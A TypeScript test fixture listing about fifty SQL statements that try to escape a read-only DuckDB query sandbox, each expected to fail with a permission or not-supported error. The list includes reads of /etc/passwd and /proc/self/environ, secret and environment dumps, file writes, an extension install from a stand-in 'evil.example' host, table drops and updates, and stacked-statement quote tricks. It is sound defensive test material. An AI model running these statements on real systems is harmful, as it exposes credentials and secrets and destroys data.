/**
 * Statements that try to leave the read-only sandbox (read host files, write files, load code,
 * change settings, reach other databases or the environment). Every one must fail with a clear
 * Trino-style error; the same list runs in the unit, integration and Python interop suites.
 */
export interface EscapeAttempt {
  readonly sql: string;
  readonly errorName: 'PERMISSION_DENIED' | 'NOT_SUPPORTED';
}

const denied = (sql: string): EscapeAttempt => ({ sql, errorName: 'PERMISSION_DENIED' });
const unsupported = (sql: string): EscapeAttempt => ({ sql, errorName: 'NOT_SUPPORTED' });

export const SANDBOX_ESCAPES: readonly EscapeAttempt[] = [
  denied("SELECT * FROM read_csv('/etc/passwd')"),
  denied("SELECT * FROM read_csv_auto('/etc/passwd', header = false)"),
  denied("select * from READ_TEXT('/etc/hostname')"),
  denied("SELECT content FROM read_blob('/etc/passwd')"),
  denied("SELECT * FROM read_json('/proc/self/environ')"),
  denied("SELECT * FROM read_parquet('/tmp/*.parquet')"),
  denied("SELECT * FROM parquet_scan('s3://bucket/x.parquet')"),
  denied("SELECT * FROM glob('/etc/*')"),
  denied("SELECT * FROM '/etc/passwd'"),
  denied("SELECT * FROM gold.latest_prices, '/etc/passwd'"),
  denied('SELECT * FROM "/etc/passwd"'),
  denied("SELECT * FROM (SELECT 1) t JOIN 'https://example.com/data.csv' u ON true"),
  denied("WITH x AS (SELECT * FROM read_csv('/etc/passwd')) SELECT * FROM x"),
  denied('SELECT * FROM "read_csv"(\'/etc/passwd\')'),
  denied("SELECT * FROM main.read_csv('/etc/passwd')"),
  denied("SELECT * FROM query('SELECT * FROM read_csv(''/etc/passwd'')')"),
  denied("SELECT getenv('HOME')"),
  denied('SELECT * FROM duckdb_secrets()'),
  denied("SELECT * FROM sqlite_scan('/tmp/x.db', 't')"),
  denied("EXPLAIN SELECT * FROM read_csv('/etc/passwd')"),
  denied("COPY (SELECT 1) TO '/tmp/pwned.csv'"),
  denied("COPY gold.latest_prices FROM '/etc/passwd'"),
  denied("ATTACH '/tmp/evil.duckdb' AS evil"),
  denied('DETACH iceberg'),
  denied('INSTALL httpfs'),
  denied('LOAD httpfs'),
  denied("FORCE INSTALL 'https://evil.example/x.duckdb_extension'"),
  denied('CREATE TABLE gold.pwned AS SELECT 1 AS x'),
  denied("CREATE SECRET s (TYPE s3, KEY_ID 'k', SECRET 's')"),
  denied('INSERT INTO gold.latest_prices SELECT * FROM gold.latest_prices'),
  denied("DELETE FROM gold.latest_prices WHERE product_id = 'BTC-USD'"),
  denied("UPDATE gold.latest_prices SET price = 0 WHERE product_id = 'BTC-USD'"),
  denied('DROP TABLE gold.latest_prices'),
  denied('ALTER TABLE gold.latest_prices ADD COLUMN x INTEGER'),
  denied("EXPORT DATABASE '/tmp/dump'"),
  denied("IMPORT DATABASE '/tmp/dump'"),
  denied('WITH x AS (SELECT 1 AS a) INSERT INTO gold.latest_prices SELECT * FROM x'),
  denied('CHECKPOINT'),
  denied("SELECT current_setting('allowed_directories')"),
  denied('SELECT * FROM duckdb_settings()'),
  denied("SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))"),
  denied("SELECT E'\\'' AS a, * FROM read_parquet('/tmp/x.parquet')"),
  denied("SELECT $$'$$ AS a, /* /* */ ' */ * FROM read_text('/etc/hostname')"),
  denied("SELECT '\\' AS a, * FROM glob('/*')"),
  denied("EXECUTE IMMEDIATE 'SELECT * FROM read_csv(?)' USING '/etc/passwd'"),
  denied("EXECUTE IMMEDIATE 'SELECT ?' USING getenv('HOME')"),
  unsupported('SET enable_external_access = true'),
  unsupported("SET allowed_directories = ['/']"),
  unsupported('RESET lock_configuration'),
  unsupported('PRAGMA enable_external_access'),
  unsupported("CALL pragma_table_info('gold.latest_prices')"),
  unsupported("SELECT 1; COPY (SELECT 1) TO '/tmp/pwned.csv'"),
  unsupported("SET SESSION query_max_run_time = '1h'"),
  unsupported("SET GLOBAL TimeZone = 'America/New_York'"),
  unsupported("SELECT E'\\''; CREATE TABLE pwned (x INTEGER); SELECT ''"),
  unsupported("FROM read_csv('/etc/passwd')"),
];
